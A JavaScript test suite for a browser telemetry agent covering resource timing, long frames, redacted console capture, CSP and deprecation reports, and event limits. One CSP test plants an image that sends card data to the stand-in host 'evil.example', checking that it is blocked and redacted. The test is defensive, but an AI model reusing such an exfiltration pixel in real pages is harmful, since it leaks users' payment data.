// What the agent watches besides: resources, long frames, the console, reports, measures of the page.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { leave, openBrowser } from './browser.mjs';
import { html } from './site.mjs';
import { arrived, visiting } from './visiting.mjs';

let browser;
before(async () => (browser = await openBrowser()));
after(() => browser.close());

const plain = (data = '', body = '<p>plain</p>') => ({ '/': html(body, { data }) });
const send =
  (type, text, headers = {}) =>
  (_request, response) => {
    for (const [name, value] of Object.entries(headers)) response.setHeader(name, value);
    response.setHeader('content-type', type).end(text);
  };
/** The second server by another name: for browsers another site. */
const foreign = (other) => other.replace('127.0.0.1', 'localhost');

const STYLE = `p { color: red } /* ${'x'.repeat(3_000)} */`;
const RESOURCE = 'browser.resource_timing.';
const waterfall =
  (data = '') =>
  ({ routes, other }) =>
    Object.assign(routes, {
      '/': html(
        `<script src="/late.js" async></script><img src="${foreign(other)}/tracker.svg?id=SECRET"><img src="${foreign(other)}/open.svg">`,
        { data, head: '<link rel="stylesheet" href="/style.css"><script src="/first.js"></script>' },
      ),
      '/style.css': send('text/css', STYLE),
      '/first.js': send('text/javascript', '0;'),
      '/late.js': send('text/javascript', '0;'),
      '/tracker.svg': send('image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"/>'),
      '/open.svg': send('image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"/>', { 'timing-allow-origin': '*' }),
    });
const told = (receiver, names) =>
  receiver.until('the resources', (r) => {
    const events = r.events('browser.resource_timing');
    const found = names.map((name) => events.find(({ at }) => new URL(at['url.full']).pathname === name));
    return found.every(Boolean) && found;
  });
const RESOURCES = ['/style.css', '/first.js', '/late.js', '/tracker.svg', '/open.svg'];

test('the resources of a page arrive once each, with who waited for them, their sizes and their phases', () =>
  visiting(
    browser,
    {},
    async ({ page, receiver }) => {
      await leave(page);
      const [style, first, late, tracker, open] = await told(receiver, RESOURCES);
      const of = (name) => [style, first, late, tracker, open].map(({ at }) => at[RESOURCE + name]);
      assert.deepEqual(of('render_blocking_status').slice(0, 3), ['blocking', 'blocking', 'non-blocking']);
      assert.deepEqual(of('initiator_type'), ['link', 'script', 'script', 'img', 'img']);
      assert.equal(style.at[`${RESOURCE}decoded_body_size`], STYLE.length);
      assert.ok(style.at[`${RESOURCE}transfer_size`] > style.at[`${RESOURCE}encoded_body_size`]);
      assert.deepEqual(of('response_status').slice(0, 3), [200, 200, 200]);
      const [fetched, ended] = [style.at[`${RESOURCE}fetch_start`], style.at[`${RESOURCE}response_end`]];
      assert.ok(fetched > 0 && ended > fetched && style.at[`${RESOURCE}request_start`] >= fetched);
      assert.deepEqual(
        [style, tracker, open].map(({ at }) => at['limen.third_party']),
        [undefined, true, true],
      );
      assert.equal(tracker.at[`${RESOURCE}request_start`], undefined, 'hidden: no Timing-Allow-Origin');
      assert.equal(tracker.at[`${RESOURCE}transfer_size`], undefined);
      assert.ok(open.at[`${RESOURCE}request_start`] > 0 && open.at[`${RESOURCE}transfer_size`] > 0);
      assert.ok(!receiver.bodies.some(({ text }) => text.includes('SECRET')));
      const [view] = await arrived(receiver, 'limen.view', 'limen.agent');
      assert.equal(receiver.views()[0].at['limen.view.resources'], RESOURCES.length);
      assert.equal(style.at['limen.view.id'], view.at['limen.view.id']);
      const urls = receiver.events('browser.resource_timing').map(({ at }) => at['url.full']);
      assert.equal(new Set(urls).size, urls.length);
    },
    waterfall(),
  ));

test('hosts that the page calls its own are no third parties', () =>
  visiting(
    browser,
    {},
    async ({ page, receiver }) => {
      await leave(page);
      const [tracker] = await told(receiver, ['/tracker.svg']);
      assert.equal(tracker.at['limen.third_party'], undefined);
    },
    waterfall('data-first-party="localhost"'),
  ));

const FRAME = 'browser.long_animation_frame';
/** The scripts of a frame, the longest first. */
const scriptsOf = ({ attributes }) =>
  (attributes.find(({ key }) => key === `${FRAME}.scripts`)?.value.arrayValue.values ?? []).map(({ kvlistValue }) =>
    Object.fromEntries(kvlistValue.values.map(({ key, value }) => [key, Object.values(value)[0]])),
  );
const BUSY = `function NAME() { const end = performance.now() + 200; while (performance.now() < end); }`;
test('long frames arrive with the scripts behind them, and blocked time with the share of third parties', () =>
  visiting(
    browser,
    {},
    async ({ page, receiver }) => {
      // Each in a frame of its own, so that the browser tells of each.
      for (const name of ['ours', 'theirs'])
        await page.evaluate(
          (name) =>
            new Promise((done) => {
              new PerformanceObserver((_list, observer) => done(observer.disconnect())).observe({
                type: 'long-animation-frame',
              });
              requestAnimationFrame(() => setTimeout(globalThis[name]));
            }),
          name,
        );
      await leave(page);
      const frames = await receiver.until('both frames', (r) => {
        const by = (file) =>
          r.events(FRAME).find((event) => scriptsOf(event).some(({ source_url }) => source_url?.endsWith(file)));
        return by('/ours.js') && by('/theirs.js') && [by('/ours.js'), by('/theirs.js')];
      });
      for (const frame of frames) {
        assert.ok(frame.at[`${FRAME}.duration`] >= 200);
        assert.ok(frame.at[`${FRAME}.blocking_duration`] >= 100);
        const [script] = scriptsOf(frame);
        assert.ok(script.duration >= 200 && script.invoker_type && script.source_function_name, JSON.stringify(script));
      }
      await arrived(receiver, 'limen.view', 'limen.agent');
      const { at } = receiver.views()[0];
      const [all, theirs] = [at['limen.view.blocking_time'], at['limen.view.third_party_blocking_time']];
      assert.ok(theirs > 0 && theirs < all, `${theirs} of ${all} ms`);
      assert.ok(at['limen.view.long_frames'] >= 2);
    },
    ({ routes, other }) =>
      Object.assign(routes, {
        '/': html('<p>busy</p>', {
          head: `<script src="/ours.js"></script><script src="${foreign(other)}/theirs.js" crossorigin></script>`,
        }),
        '/ours.js': send('text/javascript', BUSY.replace('NAME', 'ours')),
        '/theirs.js': send('text/javascript', BUSY.replace('NAME', 'theirs')),
      }),
  ));

test('the console is told where the page asks for it: those methods only, without the inside of objects', () =>
  visiting(browser, plain('data-console="error warn"'), async ({ page, receiver }) => {
    const shown = [];
    page.on('console', (message) => shown.push(message.text()));
    await page.evaluate(() => {
      console.warn('careful', 1, { password: 'SECRET' }, 'ada@example.com');
      console.error(new TypeError('broken'));
      console.log('not asked for');
    });
    await leave(page);
    const entries = await receiver.until('both', (r) => {
      const all = r.events('browser.console');
      return all.length === 2 && all.sort((a, b) => a.at['limen.event.id'] - b.at['limen.event.id']);
    });
    assert.deepEqual(
      entries.map(({ at, body, severityNumber }) => [at['browser.console.method'], body.stringValue, severityNumber]),
      [
        ['warn', 'careful 1 [object Object] :redacted', 13],
        ['error', 'TypeError: broken', 17],
      ],
    );
    assert.equal(shown.length, 3, 'the page sees its console as before');
    assert.ok(!receiver.bodies.some(({ text }) => /SECRET|not asked for|example\.com/.test(text)));
  }));

test('the console, the reports and the measures of a page are not told unasked', () =>
  visiting(browser, plain(), async ({ page, receiver }) => {
    await page.evaluate(() => {
      console.error('loud');
      performance.measure('mine');
      document.write;
      Limen.event('last');
    });
    await leave(page);
    await arrived(receiver, 'last', 'limen.agent', 'limen.view');
    for (const name of ['browser.console', 'limen.report', 'limen.timing']) assert.deepEqual(receiver.events(name), []);
  }));

test('a violation of the content security policy is reported with what was blocked', () =>
  visiting(
    browser,
    {
      '/': html(`<img src="https://evil.example/pixel.gif?card=SECRET">`, {
        head: `<meta http-equiv="content-security-policy" content="img-src 'self' data:">`,
      })
        // The agent has to be there before it.
        .replace('<script async', '<script'),
    },
    async ({ page, receiver }) => {
      await leave(page);
      const [report] = await arrived(receiver, 'limen.report');
      assert.equal(report.at['limen.report.type'], 'csp-violation');
      assert.equal(report.at['limen.report.id'], 'img-src');
      assert.equal(report.at['limen.report.blocked_url'], 'https://evil.example/pixel.gif?card=');
      assert.ok(!receiver.bodies.some(({ text }) => text.includes('SECRET')));
    },
  ));

test('deprecations are reported where the page asks for it', () =>
  visiting(browser, plain('data-reports'), async ({ page, receiver }) => {
    const known = await page.evaluate(
      () =>
        new Promise((done) => {
          new ReportingObserver(([report]) => done([report.type, report.body.id]), { buffered: true }).observe();
          // Synchronous requests on the main thread are deprecated.
          const request = new XMLHttpRequest();
          request.open('GET', '/api/ok', false);
          request.send();
        }),
    );
    await leave(page);
    const [report] = await arrived(receiver, 'limen.report');
    assert.deepEqual([report.at['limen.report.type'], report.at['limen.report.id']], known);
    assert.ok(report.at['limen.report.message'].length > 0);
  }));

test('measures of the page are told where it asks for it', () =>
  visiting(browser, plain('data-user-timing'), async ({ page, receiver }) => {
    const duration = await page.evaluate(() => {
      performance.mark('begin');
      performance.measure('of ada@example.com', 'begin');
      return performance.measure('search', { start: 10, duration: 25 }).duration;
    });
    await leave(page);
    const measures = await receiver.until(
      'both',
      (r) => r.events('limen.timing').length === 2 && r.events('limen.timing'),
    );
    const search = measures.find(({ at }) => at['limen.timing.name'] === 'search');
    assert.equal(search.at['limen.duration'], duration);
    const [view] = await arrived(receiver, 'limen.view');
    // The offset of the two clocks is known to two milliseconds.
    assert.ok(Math.abs(search.time - view.time - 10) < 2, 'at the time when it began');
    assert.ok(!receiver.bodies.some(({ text }) => text.includes('example.com')));
  }));

test('of a page that makes events without end, a bounded number is told of each kind', () =>
  visiting(browser, plain('data-console="warn" data-user-timing'), async ({ page, receiver }) => {
    await page.evaluate(() => {
      for (let i = 0; i < 150; i++) {
        console.warn(i);
        Limen.error(new Error(`number ${i}`));
        performance.measure(`m${i}`);
      }
    });
    // All of it is more than a page may take along when it goes.
    await receiver.until('all of each', (r) =>
      ['browser.console', 'exception', 'limen.timing'].every((name) => r.events(name).length >= 100),
    );
    await leave(page);
    await arrived(receiver, 'limen.view', 'limen.agent');
    for (const name of ['browser.console', 'exception', 'limen.timing'])
      assert.equal(receiver.events(name).length, 100);
    assert.equal(receiver.views()[0].at['limen.view.errors'], 150, 'all are counted');
  }));
